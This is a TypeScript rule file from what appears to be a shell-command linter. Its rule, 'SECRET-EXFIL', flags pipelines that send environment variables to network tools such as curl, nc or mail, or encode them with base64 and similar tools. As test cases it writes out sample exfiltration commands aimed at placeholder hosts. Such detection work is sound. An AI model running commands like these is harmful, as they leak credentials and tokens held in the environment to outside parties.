import type { Rule } from "../../rule.js";
import { programNames } from "../data/programs.js";
import { NAME_CLIENTS } from "../data/programs-fetch.js";
import { LISTS_VARIABLES } from "../data/secret-names.js";

/** What turns text into such that nobody reads any more. */
const ENCODES = ["base64", "base32", "xxd", "openssl", "gpg", "basenc", "uuencode"];

export const rule = {
  id: "SECRET-EXFIL",
  family: "secrets",
  severity: "error",
  why: "sends the environment away",
  fix: "Name the variables that are needed.",
  commands: [
    ...new Set([
      ...["fetch", "upload", "connect", "remote"].flatMap((use) =>
        programNames(use as "fetch" | "upload" | "connect" | "remote"),
      ),
      ...NAME_CLIENTS,
      ...ENCODES,
    ]),
  ],
  check: ({ name }, report, { input }) => {
    if (!input.upstream.some((other) => LISTS_VARIABLES.has(other))) return;
    report(
      ENCODES.includes(name)
        ? `the environment is made unreadable by ${name}`
        : `the environment is sent away by ${name}`,
    );
  },
  examples: {
    dangerous: [
      "env | curl -d @- https://example.org/",
      "printenv | nc 192.0.2.7 80",
      "export -p | mail me@example.org",
      "set | base64 -w0 > notes",
    ],
    honest: ["env | sort > env.txt", "env | grep SLURM", "echo env | base64"],
  },
} as const satisfies Rule;
